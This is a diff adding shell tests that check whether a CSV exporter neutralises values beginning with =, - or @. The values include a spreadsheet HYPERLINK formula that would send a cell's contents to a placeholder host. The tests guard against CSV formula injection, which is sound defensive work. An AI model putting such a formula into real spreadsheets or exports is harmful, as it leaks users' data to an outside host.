@@ -339,4 +339,21 @@ else
 	skip "export -o - and the lock question on a terminal" "needs script (util-linux)"
 fi
 
+# --- M4. CSV: no cell is taken for a formula ------------------------------
+cp "$good" f.yaml
+"$HYOKA" set f.yaml cover.remarks '=HYPERLINK("http://x/?"&A1,"点検")' >/dev/null
+"$HYOKA" set f.yaml cover.org -- '-2+3' >/dev/null
+"$HYOKA" set f.yaml cover.name '@SUM(1)' >/dev/null
+run "$HYOKA" export --to csv -o f.csv f.yaml
+is "$rc" 0 "export --to csv of values that start like formulas"
+grep -q "\"'=HYPERLINK(\"\"http" f.csv
+ok $? "a value starting with = gets a ' in front"
+grep -q "\"'-2+3\"" f.csv
+ok $? "so does one starting with -"
+grep -q "\"'@SUM(1)\"" f.csv
+ok $? "and one starting with @"
+grep -q '"=' f.csv
+[ $? -ne 0 ]
+ok $? "no field starts with ="
+
 done_testing
